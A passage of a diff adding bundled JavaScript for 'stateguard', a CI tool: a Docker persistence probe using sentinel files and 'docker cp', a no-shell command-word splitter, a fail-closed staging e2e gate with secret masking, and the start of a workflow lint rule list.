+ * `docker cp - container:dir` (which is how a sentinel gets into an image without a shell), and
+ * reading the archive `docker cp container:path -` returns. Pure: no I/O.
+ */
+
+const BLOCK = 512;
+/** A ustar archive holding exactly one regular file `name` (no directories, so no mode/owner changes to the target dir). */
+function singleFileTar(name, content, mtime) {
+    if (name === '' || name.includes('/') || name === '.' || name === '..' || Buffer.byteLength(name) > 100) {
+        throw new Error(`sentinel name must be a plain file name of at most 100 bytes, got ${JSON.stringify(name)}`);
+    }
+    const header = Buffer.alloc(BLOCK);
+    new F({ path: name, mode: 0o644, uid: 0, gid: 0, size: content.length, mtime, type: 'File' }).encode(header, 0);
+    const padding = Buffer.alloc((BLOCK - (content.length % BLOCK)) % BLOCK);
+    // Two zero blocks end the archive.
+    return Buffer.concat([header, content, padding, Buffer.alloc(BLOCK * 2)]);
+}
+/** Every entry of an archive with its body. Any parser warning is an error: this is a proof, not a guess. */
+function readTar(archive) {
+    const entries = [];
+    const problems = [];
+    const parser = new rt({ strict: true });
+    parser.on('entry', (entry) => {
+        const chunks = [];
+        entry.on('data', (c) => chunks.push(c));
+        entry.on('end', () => entries.push({ path: entry.path, type: entry.type, body: Buffer.concat(chunks) }));
+    });
+    parser.on('warn', (code, message) => problems.push(`${code}: ${String(message)}`));
+    parser.on('error', (err) => problems.push(err.message));
+    // The parser works synchronously on a Buffer: every entry has been seen when end() returns.
+    parser.end(archive);
+    if (problems.length > 0)
+        throw new Error(`unreadable tar from docker cp: ${problems.join('; ')}`);
+    return entries;
+}
+
+;// CONCATENATED MODULE: ./src/probe/persistence.ts
+/**
+ * The persistence probe (DESIGN §8): proves, on the live engine, that a module's declared durable
+ * paths survive a container recreate and its declared ephemeral paths do not.
+ *
+ * 1. Find the one running container of the service (compose labels, never names; one-offs ignored).
+ *    None running is a failure, never a pass: there is nothing to prove anything with.
+ * 2. Write a sentinel (random name, random content) into every `data.volumes[].path` and every
+ *    `data.ephemeral_paths` path with `docker cp` (a tar on stdin: works in images without a shell),
+ *    and read each back, so a write that silently did not happen fails the probe instead of passing it.
+ * 3. Recreate only that service (`up -d --no-deps --force-recreate`) and require a new container ID.
+ * 4. Every durable sentinel must be there byte for byte (else DATA-VOLUME REGRESSION), every
+ *    ephemeral one gone (else the path is declared ephemeral but persisted). The new container must
+ *    then come back running (and healthy, when it has a healthcheck).
+ * 5. Remove the sentinels that are still there (see removeSentinels for images without `rm`).
+ *
+ * Only the Runtime adapter touches the engine; everything else here is plain data.
+ */
+
+
+
+
+
+const SENTINEL_PREFIX = '.stateguard-probe-';
+const persistence_short = (id) => id.slice(0, 12);
+function regressionMessage(volume, at, oldId, newId) {
+    return `DATA-VOLUME REGRESSION: ${volume} at ${at} lost its sentinel across recreate (${persistence_short(oldId)} → ${persistence_short(newId)})`;
+}
+function ephemeralPersistedMessage(at, oldId, newId) {
+    return (`EPHEMERAL PATH PERSISTED: ${at} is declared ephemeral but persisted: its sentinel survived the recreate ` +
+        `(${persistence_short(oldId)} → ${persistence_short(newId)}), so a volume or bind mount backs it. Declare it under data.volumes, or remove the mount.`);
+}
+/** `docker cp` says this when the path does not exist in the container (engine 20.10+ wording, both directions). */
+const PATH_ABSENT = /no such container:path|could not find the file/i;
+function isPathAbsentError(err) {
+    return PATH_ABSENT.test(errorMessage(err));
+}
+/** Declared paths as the probe addresses them: absolute, normalised, no trailing slash. */
+function normalizeContainerPath(p) {
+    const n = external_node_path_default().posix.normalize(p);
+    return n.length > 1 ? n.replace(/\/+$/, '') : n;
+}
+/** Read one sentinel back: present with the exact content, absent, or something else under its name. */
+async function readSentinel(runtime, containerId, dir, name, content) {
+    const chunks = [];
+    const sink = new external_node_stream_.Writable({
+        write(chunk, _enc, done) {
+            chunks.push(Buffer.from(chunk));
+            done();
+        },
+    });
+    try {
+        await runtime.copyFrom(containerId, external_node_path_default().posix.join(dir, name), sink);
+    }
+    catch (err) {
+        if (isPathAbsentError(err))
+            return 'absent';
+        throw err;
+    }
+    const entry = readTar(Buffer.concat(chunks)).find((e) => e.path === name);
+    return entry && entry.type === 'File' && entry.body.equals(content) ? 'present' : 'changed';
+}
+/** The service's containers (compose labels; one-off `compose run` containers are not the service). */
+async function persistence_serviceContainers(runtime, mod) {
+    const all = await runtime.listProjectContainers(mod.compose.project);
+    return all.filter((c) => c.service === mod.compose.service && !c.oneoff);
+}
+function describeStates(containers) {
+    if (containers.length === 0)
+        return 'no container exists for it';
+    return `its container${containers.length === 1 ? ' is' : 's are'} ${containers.map((c) => `${persistence_short(c.id)} ${c.state}`).join(', ')}`;
+}
+/**
+ * Remove sentinels from a container, best effort. `docker cp` can write but never delete, so this
+ * needs a program in the image: `rm` on PATH, else `/bin/busybox rm` (images that ship busybox
+ * without a shell). With neither, the file stays: it is one small file named `.stateguard-probe-*`,
+ * and the report says where, so an operator can delete it; leaving it never changes the verdict.
+ * Each removal is verified with `docker cp`, so "removed" is a fact, not a hope.
+ */
+async function removeSentinels(runtime, containerId, planted) {
+    const files = planted.map((p) => external_node_path_default().posix.join(p.check.path, p.check.sentinel));
+    if (files.length === 0)
+        return { removed: [], left: [], note: null };
+    // Root inside the container: the sentinel was written by `docker cp` as root, into a directory
+    // the service user may not own.
+    for (const rm of [['rm'], ['/bin/busybox', 'rm']]) {
+        const r = await runtime.docker(['exec', '-u', '0', containerId, ...rm, '-f', '--', ...files]);
+        if (r.code === 0)
+            break;
+    }
+    const removed = [];
+    const left = [];
+    for (const p of planted) {
+        const file = external_node_path_default().posix.join(p.check.path, p.check.sentinel);
+        let state;
+        try {
+            state = await readSentinel(runtime, containerId, p.check.path, p.check.sentinel, p.content);
+        }
+        catch {
+            state = 'unknown';
+        }
+        (state === 'absent' ? removed : left).push(file);
+    }
+    const note = left.length === 0
+        ? null
+        : `left ${left.length} probe sentinel file${left.length === 1 ? '' : 's'} in container ${persistence_short(containerId)}: ` +
+            `${left.join(', ')}. The image has neither 'rm' nor '/bin/busybox rm' (or the container is not running), and docker cp cannot delete. ` +
+            `Each is one small file named ${SENTINEL_PREFIX}*; it is safe to delete by hand.`;
+    return { removed, left, note };
+}
+async function runPersistenceProbe(mod, deps) {
+    const { runtime } = deps;
+    const log = deps.log ?? (() => undefined);
+    const random = deps.random ?? external_node_crypto_.randomBytes;
+    const sleep = deps.sleep ?? ((ms) => new Promise((r) => setTimeout(r, ms)));
+    const target = { project: mod.compose.project, files: [mod.compose.path] };
+    const report = {
+        module: mod.name,
+        project: mod.compose.project,
+        service: mod.compose.service,
+        passed: false,
+        old_container: null,
+        new_container: null,
+        checks: [],
+        problems: [],
+        cleanup: { removed: [], left: [], note: null },
+    };
+    const fail = (problem) => {
+        report.problems.push(problem);
+        report.passed = false;
+        return report;
+    };
+    const planted = [
+        ...mod.volumes.map((v) => ({ kind: 'durable', volume: v.volume, path: normalizeContainerPath(v.path) })),
+        ...mod.ephemeralPaths.map((p) => ({ kind: 'ephemeral', volume: null, path: normalizeContainerPath(p) })),
+    ].map((c) => ({
+        check: { ...c, sentinel: `${SENTINEL_PREFIX}${random(8).toString('hex')}`, written: false, after_recreate: null, ok: false, problem: null },
+        content: Buffer.from(`stateguard persistence probe ${random(16).toString('hex')}\n`),
+    }));
+    report.checks = planted.map((p) => p.check);
+    if (planted.length === 0) {
+        return fail(`module ${mod.name} declares no data.volumes and no data.ephemeral_paths, so the probe has nothing to prove; ` +
+            `declare the paths in its module.yaml (or drop persistence-probe).`);
+    }
+    // 1. The one running container.
+    const before = await persistence_serviceContainers(runtime, mod);
+    const running = before.filter((c) => c.state === 'running');
+    if (running.length !== 1) {
+        const where = `service ${mod.compose.service} of compose project ${mod.compose.project}`;
+        if (running.length > 1) {
+            return fail(`${running.length} containers of ${where} are running (${running.map((c) => persistence_short(c.id)).join(', ')}); the probe needs exactly one (scaled services are not supported).`);
+        }
+        const oneShot = mod.expectedState === 'exited-success'
+            ? ` Module ${mod.name} is a one-shot (expected_state: exited-success): probe the long-running module that owns the data instead.`
+            : ` Start it first (e.g. compose up -d ${mod.compose.service}); the probe never passes without a container to prove it on.`;
+        return fail(`no running container for module ${mod.name} (${where}): ${describeStates(before)}.${oneShot}`);
+    }
+    const old = running[0];
+    report.old_container = old.id;
+    log(`persistence probe: module ${mod.name}, container ${persistence_short(old.id)}, ${planted.length} path${planted.length === 1 ? '' : 's'}`);
+    // 2. Plant and read back.
+    const written = [];
+    for (const p of planted) {
+        const { check } = p;
+        try {
+            await runtime.copyTo(old.id, check.path, singleFileTar(check.sentinel, p.content, deps.now()));
+        }
+        catch (err) {
+            check.problem = `could not write a sentinel into ${check.path} of container ${persistence_short(old.id)} (does the directory exist there?): ${errorMessage(err)}`;
+            report.problems.push(check.problem);
+            continue;
+        }
+        written.push(p);
+        let state;
+        try {
+            state = await readSentinel(runtime, old.id, check.path, check.sentinel, p.content);
+        }
+        catch (err) {
+            check.problem = `could not read back the sentinel written into ${check.path}: ${errorMessage(err)}`;
+            report.problems.push(check.problem);
+            continue;
+        }
+        if (state !== 'present') {
+            check.problem = `the sentinel written into ${check.path} of container ${persistence_short(old.id)} reads back ${state}: the write did not take effect, so this path proves nothing`;
+            report.problems.push(check.problem);
+            continue;
+        }
+        check.written = true;
+    }
+    if (report.problems.length > 0) {
+        // Do not disturb the service for a probe that has already failed.
+        report.cleanup = await removeSentinels(runtime, old.id, written);
+        return fail('the probe stopped before recreating the container: not every sentinel could be written and read back.');
+    }
+    // 3. Recreate only that service; require a new container.
+    log(`persistence probe: recreating service ${mod.compose.service} (only it, --no-deps --force-recreate)`);
+    const up = await runtime.recreateService(target, mod.compose.service);
+    const after = await persistence_serviceContainers(runtime, mod);
+    const fresh = after.filter((c) => c.id !== old.id);
+    const failBeforeVerify = async (problem) => {
+        // Whatever container holds the sentinels now, try to take them out again.
+        const holder = fresh.length === 1 ? fresh[0] : after.find((c) => c.id === old.id);
+        if (holder)
+            report.cleanup = await removeSentinels(runtime, holder.id, planted);
+        return fail(problem);
+    };
+    if (up.code !== 0) {
+        const last = up.stderr.trim().split('\n').filter(Boolean).pop() ?? `exit ${up.code}`;
+        return failBeforeVerify(`compose could not recreate service ${mod.compose.service}: ${last}`);
+    }
+    if (fresh.length === 0) {
+        const still = after.some((c) => c.id === old.id);
+        return failBeforeVerify(still
+            ? `the container ID did not change across the recreate (${persistence_short(old.id)}): the recreate did not happen, so nothing was proven.`
+            : `no container of service ${mod.compose.service} exists after the recreate.`);
+    }
+    if (fresh.length > 1) {
+        return failBeforeVerify(`${fresh.length} new containers of service ${mod.compose.service} appeared after the recreate; the probe needs exactly one.`);
+    }
+    const next = fresh[0];
+    report.new_container = next.id;
+    // 4. Verify (docker cp reads a container in any state, so data is checked before readiness).
+    const stillThere = [];
+    for (const p of planted) {
+        const { check } = p;
+        let state;
+        try {
+            state = await readSentinel(runtime, next.id, check.path, check.sentinel, p.content);
+        }
+        catch (err) {
+            check.problem = `could not read ${check.path} in the recreated container ${persistence_short(next.id)}: ${errorMessage(err)}`;
+            report.problems.push(check.problem);
+            stillThere.push(p);
+            continue;
+        }
+        check.after_recreate = state;
+        if (state !== 'absent')
+            stillThere.push(p);
+        if (check.kind === 'durable') {
+            check.ok = state === 'present';
+            if (!check.ok)
+                check.problem = regressionMessage(check.volume ?? check.path, check.path, old.id, next.id);
+        }
+        else {
+            check.ok = state === 'absent';
+            if (!check.ok)
+                check.problem = ephemeralPersistedMessage(check.path, old.id, next.id);
+        }
+        if (check.problem)
+            report.problems.push(check.problem);
+    }
+    const ready = await waitReady(runtime, next.id, deps.readyTimeoutMs ?? mod.timeoutSeconds * 1000, sleep);
+    if (ready)
+        report.problems.push(ready);
+    // 5. Clean up what is still there.
+    report.cleanup = await removeSentinels(runtime, next.id, stillThere);
+    if (report.cleanup.note)
+        deps.warn?.(report.cleanup.note);
+    report.passed = report.problems.length === 0;
+    return report;
+}
+/** Null when the container runs (and is healthy where it has a healthcheck); else why not. */
+async function waitReady(runtime, id, timeoutMs, sleep) {
+    const deadline = Date.now() + timeoutMs;
+    for (;;) {
+        const [c] = await runtime.inspectContainers([id]);
+        if (!c)
+            return `the recreated container ${persistence_short(id)} disappeared.`;
+        if (c.state === 'running' && (c.health === null || c.health === 'healthy'))
+            return null;
+        if (c.state === 'exited' || c.state === 'dead' || c.health === 'unhealthy') {
+            return `the recreated container ${persistence_short(id)} did not come back: it is ${c.state}${c.health ? ` (${c.health})` : ''}${c.exitCode !== null && c.state !== 'running' ? `, exit code ${c.exitCode}` : ''}.`;
+        }
+        if (Date.now() >= deadline) {
+            return `the recreated container ${persistence_short(id)} is not ready after ${Math.round(timeoutMs / 1000)} s (${c.state}${c.health ? `, ${c.health}` : ''}).`;
+        }
+        await sleep(1000);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/shell-words.ts
+/**
+ * Splits the action's `run` string into an argument vector, the way a POSIX shell splits words —
+ * but without a shell. Quotes and backslashes group and escape exactly as in `sh`; nothing is
+ * expanded or interpreted.
+ *
+ * Because no shell runs, anything a shell would have *interpreted* (pipes, `&&`, redirections,
+ * `$VAR`, backticks, globs, `~`, comments) would silently mean something else here: `echo $TOKEN`
+ * would print the five characters `$TOKEN`, `a && b` would pass `&&` to `a`. Rather than guess, such
+ * characters are refused unless quoted, with a message pointing at the two honest alternatives:
+ * quote them, or write the shell yourself (`bash -c '…'`). Pure: no I/O.
+ */
+class ShellWordsError extends Error {
+    constructor(message) {
+        super(message);
+        this.name = 'ShellWordsError';
+    }
+}
+/** Characters a shell interprets outside quotes (operators, expansions, globs, comments). */
+const UNQUOTED_SPECIAL = new Set(['|', '&', ';', '<', '>', '(', ')', '$', '`', '*', '?', '[', ']', '{', '}']);
+const WHITESPACE = new Set([' ', '\t', '\n', '\r']);
+function hint(ch, where) {
+    return (`the command contains ${JSON.stringify(ch)} ${where}, which a shell would interpret but stateguard runs the ` +
+        `command without a shell. Quote it ('…') to pass it literally, or write the shell yourself, e.g. ` +
+        `run: bash -c 'your && command'.`);
+}
+function splitShellWords(input) {
+    const words = [];
+    let word = '';
+    /** a word exists even when empty (`''` is one empty argument) */
+    let inWord = false;
+    let i = 0;
+    const n = input.length;
+    while (i < n) {
+        const ch = input[i];
+        if (WHITESPACE.has(ch)) {
+            if (inWord)
+                words.push(word);
+            word = '';
+            inWord = false;
+            i++;
+            continue;
+        }
+        if (ch === '\\') {
+            if (i + 1 >= n)
+                throw new ShellWordsError('the command ends with a lone backslash (\\); escape it as \\\\ or remove it.');
+            const next = input[i + 1];
+            if (next === '\n') {
+                // Line continuation, as in sh: backslash-newline disappears.
+                i += 2;
+                continue;
+            }
+            word += next;
+            inWord = true;
+            i += 2;
+            continue;
+        }
+        if (ch === "'") {
+            const end = input.indexOf("'", i + 1);
+            if (end === -1)
+                throw new ShellWordsError(`unbalanced single quote (') starting at character ${i + 1}; close it.`);
+            word += input.slice(i + 1, end);
+            inWord = true;
+            i = end + 1;
+            continue;
+        }
+        if (ch === '"') {
+            let j = i + 1;
+            let closed = false;
+            while (j < n) {
+                const c = input[j];
+                if (c === '"') {
+                    closed = true;
+                    break;
+                }
+                if (c === '\\' && j + 1 < n) {
+                    const next = input[j + 1];
+                    // Inside double quotes sh gives backslash meaning only before these characters.
+                    if (next === '"' || next === '\\' || next === '$' || next === '`') {
+                        word += next;
+                        j += 2;
+                        continue;
+                    }
+                    if (next === '\n') {
+                        j += 2;
+                        continue;
+                    }
+                }
+                if (c === '$' || c === '`')
+                    throw new ShellWordsError(hint(c, 'inside double quotes (an expansion)'));
+                word += c;
+                j++;
+            }
+            if (!closed)
+                throw new ShellWordsError(`unbalanced double quote (") starting at character ${i + 1}; close it.`);
+            inWord = true;
+            i = j + 1;
+            continue;
+        }
+        if (UNQUOTED_SPECIAL.has(ch))
+            throw new ShellWordsError(hint(ch, 'unquoted'));
+        if (!inWord && (ch === '#' || ch === '~')) {
+            throw new ShellWordsError(hint(ch, 'at the start of a word (a comment or home-directory expansion in a shell)'));
+        }
+        word += ch;
+        inWord = true;
+        i++;
+    }
+    if (inWord)
+        words.push(word);
+    return words;
+}
+
+;// CONCATENATED MODULE: ./src/run-command.ts
+/**
+ * Runs one command with a context, turning every escape (user error, unreachable engine, bug)
+ * into a CommandResult that says no. Shared by the CLI and the actions so both fail closed the
+ * same way.
+ */
+
+async function runCommand(spec, options, ctx) {
+    try {
+        return await spec.run(options, ctx);
+    }
+    catch (err) {
+        return errorResult(spec, err);
+    }
+}
+/** The "no" value of every verdict-like output, set when a command could not complete. */
+const FAIL_CLOSED_OUTPUTS = {
+    decision: 'blocked',
+    verified: 'false',
+    valid: 'false',
+    status: 'error',
+};
+function errorResult(spec, err) {
+    const name = spec?.name ?? 'stateguard';
+    let exitCode = errors_ExitCode.couldNotRun;
+    let reason = 'internal';
+    let message = errorMessage(err);
+    if (err instanceof UserError) {
+        exitCode = err.exitCode;
+        reason = err.reason;
+    }
+    else if (err instanceof EnvironmentError) {
+        reason = err.reason;
+    }
+    else {
+        message = `unexpected error (stateguard failed closed; please report this): ${message}`;
+    }
+    // Outputs a workflow branches on say "no" explicitly, never stay empty, whatever failed.
+    const outputs = {};
+    const json = { error: message, failure_reason: reason, exit_code: exitCode };
+    for (const [name, value] of Object.entries(FAIL_CLOSED_OUTPUTS)) {
+        if (spec?.outputs.some((o) => o.name === name)) {
+            outputs[name] = value;
+            json[name.replace(/-/g, '_')] = value;
+        }
+    }
+    outputs['failure-reason'] = reason;
+    return {
+        exitCode,
+        json,
+        text: `stateguard ${name}: ${message}`,
+        outputs,
+        summary: `### stateguard ${name}: could not complete\n\n${message.split('\n').map((l) => `> ${l}`).join('\n')}\n\nfailure-reason: \`${reason}\``,
+        failureReason: reason,
+        annotations: [],
+    };
+}
+
+;// CONCATENATED MODULE: ./src/commands/e2e-gate.ts
+/**
+ * `stateguard e2e-gate` (DESIGN §8): a staging gate that never fails open.
+ *
+ * Order, so that nothing with a side effect happens on a misconfigured gate:
+ * 1. validate every input (variable names, the command's words, the probe's module), even when
+ *    the gate is off, so a broken gate is found the day it is written, not the day staging turns on;
+ * 2. decide from the switch and the required variables (src/probe/gate.ts): run, skip loudly, or
+ *    refuse an ambiguous switch;
+ * 3. when running: the persistence probe first (when asked), so the e2e command then exercises
+ *    the freshly recreated container; a failed probe ends the gate there, since tests against a
+ *    service that just lost its data prove nothing; then the command, whose exit code is the verdict.
+ *
+ * No variable value is printed: the gate only names variables, and every value it reads is
+ * registered as a secret, so the CLI/action layers mask it even in the command's own output.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+const INPUTS = [
+    ROOT_INPUT,
+    MODULES_INPUT,
+    { name: 'switch', kind: 'string', default: 'STAGING_E2E', description: 'Name of the environment variable that switches the gate on (1/true); unset, empty, 0 or false skip loudly; any other value is an error.' },
+    { name: 'require', kind: 'list', description: 'Environment variables that must be set and non-empty (repeatable; one per line in the action). Only names are ever printed.' },
+    { name: 'mode', kind: 'choice', choices: ['optional', 'required'], default: 'optional', description: 'optional: skip loudly when off or unconfigured; required: fail instead.' },
+    { name: 'persistence-probe', kind: 'string', description: 'Module whose data volumes are probed across a container recreate (run before the command).' },
+    { name: 'run', kind: 'string', actionOnly: true, description: "The e2e command, split into arguments like a shell splits words (quotes, backslashes) but run without a shell; write `bash -c '…'` for one." },
+    { name: 'command', kind: 'list', rest: true, cliOnly: true, description: 'The e2e command and its arguments, after --.' },
+    JSON_INPUT,
+];
+/** Values that are protocol words, not secrets: masking them would corrupt the JSON document. */
+const NOT_SECRET = new Set(['true', 'false', 'null']);
+const e2eGateCommand = defineCommand({
+    name: 'e2e-gate',
+    title: 'stateguard e2e-gate',
+    description: 'A staging gate that never fails open: runs the e2e command only when switched on and fully configured.',
+    inputs: INPUTS,
+    outputs: [
+        { name: 'status', description: 'passed, failed, skipped, or error (the gate could not run).' },
+        { name: 'missing', description: 'JSON array of required variables that were missing or empty (names only).' },
+        FAILURE_REASON_OUTPUT,
+    ],
+    async run(opts, ctx) {
+        try {
+            return await gate(opts, ctx);
+        }
+        catch (err) {
+            const r = errorResult(e2eGateCommand, err);
+            r.outputs.status = 'error';
+            r.outputs.missing ??= '[]';
+            r.json = { status: 'error', missing: [], reason: r.json.error, probe: null, ...r.json };
+            return r;
+        }
+    },
+});
+function validateName(name, input) {
+    if (!ENV_NAME.test(name)) {
+        throw new UserError(`--${input} ${JSON.stringify(name)} is not an environment variable name: use letters, digits and _, not starting with a digit (e.g. STAGING_BASE_URL).`, { input });
+    }
+}
+function parseCommand(opts) {
+    // Each side reads only its own input: `command` exists in the CLI, `run` in the action.
+    const fromCli = opts.command ?? [];
+    if (fromCli.length > 0)
+        return fromCli;
+    if (opts.run === undefined)
+        return [];
+    try {
+        return splitShellWords(opts.run);
+    }
+    catch (err) {
+        if (err instanceof ShellWordsError)
+            throw new UserError(`input 'run': ${err.message}`, { input: 'run' });
+        throw err;
+    }
+}
+/** Resolve the program like the child's execvp will, so a typo fails before anything is recreated. */
+function resolveProgram(program, ctx) {
+    const executable = (file) => {
+        try {
+            (0,external_node_fs_namespaceObject.accessSync)(file, external_node_fs_namespaceObject.constants.X_OK);
+            return (0,external_node_fs_namespaceObject.statSync)(file).isFile();
+        }
+        catch {
+            return false;
+        }
+    };
+    if (program.includes('/')) {
+        if (executable(external_node_path_default().resolve(ctx.cwd, program)))
+            return;
+    }
+    else {
+        const dirs = (ctx.env.PATH ?? process.env.PATH ?? '').split((external_node_path_default()).delimiter).filter(Boolean);
+        if (dirs.some((d) => executable(external_node_path_default().join(external_node_path_default().resolve(ctx.cwd, d), program))))
+            return;
+    }
+    const hint = program.includes('=')
+        ? ' It looks like a shell variable assignment: pass variables through env: instead.'
+        : ['cd', 'export', 'source', '.', 'set', 'exec'].includes(program)
+            ? ` '${program}' is a shell builtin: write the shell yourself, e.g. bash -c '…'.`
+            : '';
+    throw new UserError(`the e2e command's program ${JSON.stringify(program)} was not found${program.includes('/') ? ' or is not executable' : ' on PATH'}.${hint}`, { input: 'command' });
+}
+async function gate(opts, ctx) {
+    // 1. Validate everything first.
+    validateName(opts.switch, 'switch');
+    const required = [...new Set(opts.require)];
+    for (const n of required)
+        validateName(n, 'require');
+    const mode = opts.mode;
+    const argv = parseCommand(opts);
+    let probeModule;
+    if (opts.persistenceProbe) {
+        probeModule = pickModule(loadValidModules(opts, ctx), opts.persistenceProbe, 'persistence-probe');
+        if (probeModule.volumes.length === 0 && probeModule.ephemeralPaths.length === 0) {
+            throw new UserError(`--persistence-probe ${probeModule.name}: the module declares no data.volumes and no data.ephemeral_paths, so there is nothing to probe. Declare them in ${probeModule.file}.`, { input: 'persistence-probe' });
+        }
+    }
+    if (argv.length === 0 && !probeModule) {
+        throw new UserError('nothing to run: give the e2e command after -- (CLI) or in input \'run\' (action), and/or --persistence-probe MODULE.', { input: 'command' });
+    }
+    // Every value read from here on is a secret to the output layers.
+    for (const n of required) {
+        const v = ctx.env[n];
+        if (v && !NOT_SECRET.has(v))
+            ctx.addSecret(v);
+    }
+    const switchState = readSwitch(ctx.env, opts.switch);
+    if (switchState.kind === 'ambiguous')
+        ctx.addSecret(ctx.env[opts.switch] ?? '');
+    const missing = missingVariables(ctx.env, required);
+    // 2. Decide.
+    const decision = decideGate({ switchName: opts.switch, switchState, missing, mode });
+    if (decision.action === 'refuse') {
+        return finish({
+            status: 'error', exitCode: errors_ExitCode.couldNotRun, reason: decision.reason, missing, failureReason: 'invalid-input', probe: null, command: null,
+            level: 'error', heading: 'could not decide',
+        });
+    }
+    if (decision.action === 'skip') {
+        const also = decision.cause === 'switch-off' && missing.length > 0 ? ` (also missing or empty: ${missing.join(', ')})` : '';
+        const fails = decision.failInRequiredMode;
+        return finish({
+            status: 'skipped',
+            exitCode: fails ? errors_ExitCode.no : errors_ExitCode.ok,
+            reason: `the e2e gate did not run: ${decision.reason}${also}${fails ? ' mode is required, so a skip fails the gate.' : ''}`,
+            missing,
+            failureReason: fails ? 'e2e-skipped' : undefined,
+            probe: null,
+            command: null,
+            level: fails ? 'error' : 'notice',
+            heading: fails ? 'skipped (required: failing)' : 'skipped',
+        });
+    }
+    // 3. Run: the probe first, then the command.
+    if (argv.length > 0)
+        resolveProgram(argv[0], ctx);
+    let probe = null;
+    if (probeModule) {
+        ctx.log.info(`e2e gate: ${opts.switch} is on; running the persistence probe of module ${probeModule.name} first.`);
+        probe = await runPersistenceProbe(probeModule, {
+            runtime: ctx.runtime(),
+            now: ctx.now,
+            log: (m) => ctx.log.info(m),
+            warn: (m) => ctx.log.warn(m),
+        });
+        if (!probe.passed) {
+            return finish({
+                status: 'failed', exitCode: errors_ExitCode.no,
+                reason: `the persistence probe of module ${probeModule.name} failed${argv.length ? '; the e2e command was not run' : ''}: ${probe.problems[0]}`,
+                missing, failureReason: 'probe-failed', probe, command: null, level: 'error', heading: 'failed',
+            });
+        }
+    }
+    if (argv.length === 0) {
+        return finish({
+            status: 'passed', exitCode: errors_ExitCode.ok, reason: `the persistence probe of module ${probeModule.name} passed (no e2e command was given).`,
+            missing, probe, command: null, level: null, heading: 'passed',
+        });
+    }
+    const [program, ...args] = argv;
+    ctx.log.info(`e2e gate: ${opts.switch} is on and every required variable is set; running ${program} with ${args.length} argument${args.length === 1 ? '' : 's'}.`);
+    const exitCode = await runStreaming(program, args, ctx);
+    const command = { program, arguments: args.length, exit_code: exitCode };
+    return exitCode === 0
+        ? finish({ status: 'passed', exitCode: errors_ExitCode.ok, reason: `the e2e command (${program}) exited 0${probe ? ' after the persistence probe passed' : ''}.`, missing, probe, command, level: null, heading: 'passed' })
+        : finish({ status: 'failed', exitCode: errors_ExitCode.no, reason: `the e2e command (${program}) exited ${exitCode}.`, missing, failureReason: 'e2e-failed', probe, command, level: 'error', heading: 'failed' });
+}
+/** Run the command with its output streamed live, line by line (so masking sees whole lines). */
+async function runStreaming(program, args, ctx) {
+    const stdout = lineForwarder((line) => ctx.log.raw(line));
+    const stderr = lineForwarder((line) => ctx.log.raw(line));
+    const decoder = new external_node_string_decoder_namespaceObject.StringDecoder('utf8');
+    const sink = new external_node_stream_.Writable({
+        write(chunk, _enc, done) {
+            stdout.push(decoder.write(chunk));
+            done();
+        },
+    });
+    const r = await spawnProcess(program, args, { cwd: ctx.cwd, env: { ...ctx.env }, stdoutSink: sink, onStderr: (c) => stderr.push(c) });
+    stdout.push(decoder.end());
+    stdout.flush();
+    stderr.flush();
+    return r.code;
+}
+/** Whole lines out; a line longer than 64 KiB is forwarded in pieces so memory stays bounded. */
+function lineForwarder(emit) {
+    let pending = '';
+    return {
+        push(text) {
+            pending += text;
+            let nl;
+            while ((nl = pending.indexOf('\n')) !== -1) {
+                emit(pending.slice(0, nl + 1));
+                pending = pending.slice(nl + 1);
+            }
+            if (pending.length > 65536) {
+                emit(pending);
+                pending = '';
+            }
+        },
+        flush() {
+            if (pending)
+                emit(pending + '\n');
+            pending = '';
+        },
+    };
+}
+function finish(f) {
+    const title = 'stateguard e2e-gate';
+    const lines = [`e2e gate ${f.status.toUpperCase()}: ${f.reason}`];
+    if (f.probe)
+        lines.push(...probeLines(f.probe));
+    const annotations = [];
+    if (f.level)
+        annotations.push({ level: f.level, message: f.reason, title });
+    // The first probe problem is already in the reason; each further one gets its own annotation.
+    for (const p of f.probe && !f.probe.passed ? f.probe.problems.slice(1) : []) {
+        annotations.push({ level: 'error', message: p, title: 'stateguard persistence probe' });
+    }
+    let summary = `### ${title}: ${f.heading}\n\n${cell(f.reason)}\n`;
+    if (f.probe)
+        summary += '\n' + probeSummary(f.probe);
+    return {
+        exitCode: f.exitCode,
+        json: { status: f.status, missing: f.missing, reason: f.reason, probe: f.probe, command: f.command, failure_reason: f.failureReason ?? '' },
+        text: lines.join('\n'),
+        outputs: { status: f.status, missing: JSON.stringify(f.missing), 'failure-reason': f.failureReason ?? '' },
+        summary,
+        annotations,
+        failureReason: f.failureReason,
+    };
+}
+function probeLines(p) {
+    const ids = `${p.old_container?.slice(0, 12) ?? '-'} → ${p.new_container?.slice(0, 12) ?? '-'}`;
+    const out = [`persistence probe of ${p.module} (${p.project}/${p.service}, ${ids}): ${p.passed ? 'passed' : 'FAILED'}`];
+    for (const c of p.checks) {
+        const want = c.kind === 'durable' ? 'must survive' : 'must not survive';
+        out.push(`  ${c.ok ? 'ok  ' : 'FAIL'} ${c.kind.padEnd(9)} ${c.path} (${want}): ${c.after_recreate ?? (c.written ? 'not checked' : 'not written')}`);
+    }
+    for (const problem of p.problems)
+        out.push(`  ${problem}`);
+    if (p.cleanup.note)
+        out.push(`  note: ${p.cleanup.note}`);
+    return out;
+}
+function probeSummary(p) {
+    const rows = p.checks.map((c) => `| ${cell(c.path)} | ${c.kind}${c.volume ? ` (${cell(c.volume)})` : ''} | ${c.after_recreate ?? '—'} | ${c.ok ? 'ok' : '**fail**'} |`);
+    let md = `**Persistence probe** of \`${cell(p.module)}\`: ${p.passed ? 'passed' : '**failed**'} ` +
+        `(container ${p.old_container?.slice(0, 12) ?? '—'} → ${p.new_container?.slice(0, 12) ?? '—'})\n\n` +
+        `| path | kind | after recreate | result |\n|---|---|---|---|\n${rows.join('\n')}\n`;
+    if (p.problems.length)
+        md += '\n' + p.problems.map((x) => `- ${cell(x)}`).join('\n') + '\n';
+    if (p.cleanup.note)
+        md += `\n> ${cell(p.cleanup.note)}\n`;
+    return md;
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules.ts
+const RULES = [
+    {
+        id: 'SG000',
+        name: 'workflow-schema',
+        severity: 'error',
+        summary: 'The workflow does not match the GitHub Actions workflow schema, or an expression in it is invalid.',
+        why: "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse the file or evaluate something other than what was written. No other rule can be trusted on a file the runner reads differently.",
